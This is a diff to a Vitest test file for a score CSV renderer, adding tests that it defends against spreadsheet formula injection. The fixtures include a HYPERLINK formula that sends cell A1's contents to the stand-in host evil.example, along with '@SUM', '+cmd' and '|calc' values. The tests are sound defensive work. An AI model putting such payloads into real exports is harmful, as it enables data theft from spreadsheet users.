@@ -1,5 +1,7 @@
+import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { renderScoreCsv } from '../../src/format/score-csv.js';
+import type { AuditResult } from '../../src/core/score-types.js';
+import { renderScoreCsv, scoreCsvAuditLines, scoreCsvHeader } from '../../src/format/score-csv.js';
 import { failing, HOSTILE_SITE, passing } from './fixtures.js';
 
 /** RFC 4180 read back: fields split on commas outside quotes, records on CRLF outside quotes. */
@@ -68,5 +70,48 @@ describe('renderScoreCsv', () => {
 
   it('is just the header when nothing was scored', () => {
     expect(renderScoreCsv([])).toBe('file,site,date,checklist,level,id,score,expected,gap\r\n');
+  });
+
+  it('is the header and each audit\'s lines joined, so it can be written one audit at a time', () => {
+    expect(scoreCsvHeader()).toBe('file,site,date,checklist,level,id,score,expected,gap\r\n');
+    expect(scoreCsvHeader() + scoreCsvAuditLines(passing) + scoreCsvAuditLines(failing)).toBe(csv);
+    expect(scoreCsvAuditLines(passing).split('\r\n')).toHaveLength(10 + 1);
+  });
+});
+
+describe('renderScoreCsv against formula injection', () => {
+  const hostile: AuditResult = {
+    ...passing,
+    file: '-audits/=store.yaml',
+    site: '=HYPERLINK("http://evil.example?"&A1,"click")',
+    date: '@SUM(1+1)',
+    checklist: { id: '+cmd', version: '|calc' },
+  };
+  const [, ...rows] = parseCsv(renderScoreCsv([hostile]));
+
+  it('prefixes a single quote to text cells starting with = + - @ tab or CR, and still quotes them (RFC 4180)', () => {
+    expect(rows[0]!.slice(0, 4)).toEqual(['\'-audits/=store.yaml', '\'=HYPERLINK("http://evil.example?"&A1,"click")', '\'@SUM(1+1)', '\'+cmd@|calc']);
+    expect(renderScoreCsv([hostile])).toContain(',"\'=HYPERLINK(""http://evil.example?""&A1,""click"")",');
+    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
+      const [, row] = parseCsv(renderScoreCsv([{ ...passing, site: `${start}1+2` }]));
+      expect(row![1]).toBe(`'${start}1+2`);
+    }
+  });
+
+  it('leaves text starting elsewhere alone, and numbers (negative ones too) plain numbers', () => {
+    const [, row] = parseCsv(renderScoreCsv([{ ...passing, site: ' =1', score: -12.5, expected: -0.5, gap: -12 }]));
+    expect(row).toEqual(['audits/store-a.yaml', ' =1', '2026-11-20', 'shop-basics@1.0.0', 'audit', '', '-12.5', '-0.5', '-12']);
+    expect(rows[0]!.slice(6)).toEqual(['80.04', '88.333333333333', '-8.293333333333']);
+  });
+
+  it('reads any site back as the text, with the quote added exactly when it would start a formula', () => {
+    fc.assert(
+      fc.property(fc.string({ unit: 'binary' }), (site) => {
+        const [, row] = parseCsv(renderScoreCsv([{ ...passing, site }]));
+        expect(row![1]).toBe(/^[=+\-@\t\r]/.test(site) ? `'${site}` : site);
+        expect(row).toHaveLength(9);
+      }),
+      { numRuns: 200 },
+    );
   });
 });
